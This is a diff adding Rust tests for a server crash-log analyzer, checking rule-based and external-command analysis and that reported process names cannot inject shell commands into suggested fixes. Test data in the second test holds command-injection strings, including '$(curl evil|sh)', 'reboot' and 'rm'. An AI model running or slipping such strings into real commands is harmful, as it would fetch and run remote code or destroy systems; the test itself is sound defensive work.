@@ -0,0 +1,119 @@
+use blackbox::analyze::{CommandAnalyzer, PENDING_TEXT, RuleAnalyzer};
+use blackbox::*;
+use std::time::Duration;
+
+const COMBINED: &str = r#"{
+    "process": [{
+        "serverId": "srv-01", "serverName": "web", "serverIp": "10.0.0.1", "serverOs": "Kylin", "serverStatus": "running",
+        "pid": 42, "name": "worker", "userName": "root", "status": "S", "timestamp": 1700000000000,
+        "trend": [{"cpuUsage": 1.0, "memoryUsage": 2.0, "threadCount": 5000}],
+        "threads": []
+    }],
+    "metrics": [],
+    "dmesg": "[1.0] Out of memory: Killed process 1234 (java)\n[1.1] Call trace:"
+}"#;
+
+/// 线程异常日志由内置规则按实际进程生成建议，dmesg 日志的占位文本由外部命令补全
+#[test]
+fn analyzers_fill_crash_logs() {
+    let dir = tempfile::tempdir().unwrap();
+    let blackbox = BlackBox::new(Some(
+        dir.path().join("analyze.db").to_string_lossy().to_string(),
+    ));
+    blackbox.init_database(true).unwrap();
+    blackbox
+        .smart_insert(SmartDataType::Combined, COMBINED, false)
+        .unwrap();
+
+    let crash_logs = blackbox.list_crash_logs(&Default::default()).unwrap();
+    let thread = crash_logs
+        .iter()
+        .find(|log| log.crash_type == CrashType::ThreadException)
+        .unwrap();
+    let history = blackbox.crash_log_history(thread.id).unwrap();
+    assert!(history.crash_log.ai_summary.unwrap().contains("worker"));
+    assert!(history.recommendations[0].command.contains("-p 42"));
+
+    let pending = blackbox.pending_crash_logs().unwrap();
+    assert_eq!(pending.len(), 1);
+    assert_eq!(pending[0].message, PENDING_TEXT);
+
+    // 外部命令从标准输入读取崩溃日志和上下文
+    let script = r#"input=$(cat); case "$input" in *'"server_name":"web"'*) ;; *) exit 3 ;; esac
+echo '{"summary": "java 内存耗尽", "analysis": "**分析**", "recommendations": [{"priority": 1, "action": "调整堆大小", "command": "vi /etc/java.conf"}]}'"#;
+    let analyzer = CommandAnalyzer {
+        program: "sh".to_string(),
+        args: vec!["-c".to_string(), script.to_string()],
+        timeout: Duration::from_secs(10),
+    };
+    blackbox
+        .analyze_crash_log(&analyzer, pending[0].id)
+        .unwrap();
+
+    assert!(blackbox.pending_crash_logs().unwrap().is_empty());
+    let history = blackbox.crash_log_history(pending[0].id).unwrap();
+    assert_eq!(history.crash_log.message, "java 内存耗尽");
+    assert_eq!(history.crash_log.ai_analysis.as_deref(), Some("**分析**"));
+    assert_eq!(history.recommendations.len(), 1);
+    assert_eq!(history.recommendations[0].action, "调整堆大小");
+
+    let failing = CommandAnalyzer {
+        program: "false".to_string(),
+        args: Vec::new(),
+        timeout: Duration::from_secs(10),
+    };
+    assert!(blackbox.analyze_crash_log(&failing, pending[0].id).is_err());
+}
+
+/// 上报数据中的进程名和 PID 不会原样拼进建议的命令
+#[test]
+fn thread_exception_commands_do_not_embed_reported_text() {
+    let dir = tempfile::tempdir().unwrap();
+    let blackbox = BlackBox::new(Some(
+        dir.path().join("analyze.db").to_string_lossy().to_string(),
+    ));
+    blackbox.init_database(true).unwrap();
+    blackbox
+        .smart_insert(
+            SmartDataType::Servers,
+            r#"[{"serverId": "srv-01", "serverName": "web", "serverIp": "10.0.0.1", "serverOs": "Kylin", "serverStatus": "running"}]"#,
+            false,
+        )
+        .unwrap();
+    let crash_log = r#"[{
+        "serverId": "srv-01", "logId": 1, "timestamp": 1700000000000, "crashType": "thread_exception", "severity": "high",
+        "title": "t", "message": "Thread exception detected in process PID=1;reboot NAME=x$(reboot);rm Count=5000",
+        "stackTrace": "PROCESS_NAME: ../x $(curl evil|sh)\n", "resolved": false
+    }]"#;
+    blackbox
+        .smart_insert(SmartDataType::CrashLogs, crash_log, false)
+        .unwrap();
+
+    let id = blackbox.list_crash_logs(&Default::default()).unwrap()[0].id;
+    blackbox.analyze_crash_log(&RuleAnalyzer, id).unwrap();
+    let history = blackbox.crash_log_history(id).unwrap();
+    assert!(history.recommendations.len() >= 3);
+    for recommendation in &history.recommendations {
+        assert!(
+            !recommendation.command.contains("reboot"),
+            "{}",
+            recommendation.command
+        );
+        assert!(
+            !recommendation.command.contains("$("),
+            "{}",
+            recommendation.command
+        );
+        assert!(
+            !recommendation.command.contains("../"),
+            "{}",
+            recommendation.command
+        );
+    }
+    assert!(history.recommendations[0].command.contains("-p <pid>"));
+    assert!(
+        history.recommendations[2]
+            .command
+            .contains("/tmp/..xcurlevilsh-threads.txt")
+    );
+}